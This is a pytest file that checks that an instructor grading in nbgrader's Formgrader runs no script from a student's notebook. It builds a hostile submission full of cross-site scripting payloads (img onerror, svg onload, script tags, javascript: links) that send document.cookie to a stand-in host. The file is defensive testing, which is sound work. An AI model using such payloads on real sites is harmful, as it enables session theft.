"""A marking instructor's browser runs nothing that a student wrote."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

sys.path.append(str(Path(__file__).resolve().parents[1] / "grading_command"))
sys.path.append(str(Path(__file__).resolve().parents[1] / "environment"))

from binder_environment import Server, serving
from pages import new_browser
from small_class import CHAPTER, RIGHT, WRONG, SmallClass, handed_in

if TYPE_CHECKING:
    from playwright.sync_api import Page

# What a script of a student would do: leave a trace in the page, and give itself all points.
RUN = "window.ran = 1; fetch('https://elsewhere.example/' + document.cookie)"
HONEST = "My reasons, with $a<b$:\n\n| size | loss |\n|--|--|\n| 1 | 2 |\n"
EVIL = f'My answer. <img src=x onerror="{RUN}"> <svg onload="{RUN}"></svg>'


def notebook(why: str) -> nbformat.NotebookNode:
    """A right submission with a text answer, more cells and all kinds of outputs."""
    made = handed_in({**RIGHT, "why": why})
    shown = {
        "text/html": f'<b>shown</b><script>{RUN}</script><img src=x onerror="{RUN}">',
        "application/javascript": RUN,
        "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"></svg>',
        "text/markdown": f'<img src=x onerror="{RUN}">',
        "text/latex": f'<img src=x onerror="{RUN}">',
        "text/plain": "plain",
    }
    code = "from IPython.display import display\n" + "\n".join(
        f"display({{{kind!r}: {data!r}}}, raw=True)" for kind, data in shown.items()
    )
    made.cells += [
        new_code_cell(code, outputs=[new_output("display_data", {k: v}) for k, v in shown.items()]),
        new_markdown_cell(f"[click](javascript:{RUN})\n\n<script>{RUN}</script>"),
    ]
    made.cells.append(nbformat.v4.new_raw_cell(f"<script>{RUN}</script>"))
    return made


@pytest.fixture(scope="module")
def marking(
    tmp_path_factory: pytest.TempPathFactory, root: Path
) -> Iterator[tuple[SmallClass, Server]]:
    """A graded class, and the server on which an instructor opens Formgrader."""
    folder = tmp_path_factory.mktemp("marking")
    made = SmallClass(folder / "course", root)
    made.hand_in("ada", nbformat.writes(notebook(HONEST)).encode())
    made.hand_in("eve", nbformat.writes(notebook(EVIL)).encode())
    made.hand_in("bob", WRONG)
    subprocess.run(
        [sys.executable, "-m", "classroom", "grade", CHAPTER],
        cwd=made.project.root, check=True, capture_output=True,
    )  # fmt: skip
    with serving([sys.executable, "-m", "jupyter"], made.project.root, folder) as server:
        yield made, server


@pytest.fixture
def page(marking: tuple[SmallClass, Server]) -> Iterator[Page]:
    with new_browser() as browser:
        yield browser.new_page()


def grades(made: SmallClass) -> dict[str, float]:
    from nbgrader.api import Gradebook

    with Gradebook(made.room.gradebook) as book:
        return {work.student.id: work.score for work in book.assignment_submissions(CHAPTER)}


def opened(page: Page, server: Server, made: SmallClass, student: str) -> list[str]:
    """Open a student's submission as Formgrader does; return what the page asked for elsewhere."""
    from nbgrader.api import Gradebook

    with Gradebook(made.room.gradebook) as book:
        work = book.find_submission_notebook(CHAPTER, CHAPTER, student).id
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(f"{server.url}formgrader/submissions/{work}/?token={server.token}")
    page.wait_for_selector("textarea.comment, .nbgrader_cell")
    return [
        url for url in asked
        if not url.startswith((server.url, "data:")) and "cdnjs.cloudflare.com" not in url
    ]  # fmt: skip


def test_nothing_that_a_student_wrote_runs_where_it_is_marked(
    marking: tuple[SmallClass, Server], page: Page
) -> None:
    made, server = marking
    before = grades(made)
    asked = opened(page, server, made, "eve")
    for link in page.get_by_text("click", exact=True).all():
        link.click()
    page.wait_for_timeout(500)
    assert page.evaluate("window.ran") is None
    assert asked == []
    assert grades(made) == before
    assert page.locator("img[src=x]").count() == 0
    assert "onerror=" in page.locator("body").inner_text()  # the answer is there to be read
    assert page.get_by_text("shown", exact=True).count() >= 1


def test_an_honest_answer_keeps_its_table_and_its_formula(
    marking: tuple[SmallClass, Server], page: Page
) -> None:
    made, server = marking
    opened(page, server, made, "ada")
    assert page.locator("td", has_text="2").count() >= 1
    assert "$a<b$" in page.locator(".nbgrader_cell", has_text="My reasons").inner_text()
